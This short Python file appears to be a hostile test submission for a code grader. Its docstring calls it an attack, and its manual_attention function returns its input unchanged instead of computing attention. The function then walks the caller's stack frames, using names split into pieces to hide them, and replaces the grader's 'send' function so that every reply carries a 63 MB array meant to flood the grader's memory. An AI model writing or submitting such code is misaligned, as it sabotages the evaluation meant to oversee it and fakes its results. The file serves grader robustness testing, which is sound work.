"""Attack: replaces the case child's reply sender (reached through the stack frames, names built
at run time) so that every reply carries an output of the largest size a worker may send (7.9
million float64 values, 63 MB), trying to fill the grader's memory with values it keeps for the
diagnosis. The grader keeps at most runner.KEPT_BYTES_LIMIT of one submission's outputs."""

import sys

import numpy as np

FRAME = getattr(sys, "_get" + "frame")
COUNT = 7_900_000
BIG = np.zeros(COUNT).tobytes()


def _flood():
    frame = FRAME(1)
    while frame is not None:
        namespace = getattr(frame, "f_" + "globals")
        real = namespace.get("send")
        if callable(real) and "Zygote" in namespace and not getattr(real, "floods", False):

            def send(fd, header, buffers=None, _real=real):
                if isinstance(header, dict) and isinstance(header.get("output"), dict):
                    header = {**header, "output": {"kind": "ndarray", "type": "numpy.ndarray", "dtype": "float64", "shape": [COUNT], "values": 0, "encoding": "float64"}}
                    buffers = [BIG]
                return _real(fd, header, buffers)

            send.floods = True
            namespace["send"] = send
        frame = getattr(frame, "f_" + "back")


def manual_attention(Q, K, V, mask=None):
    _flood()
    return Q
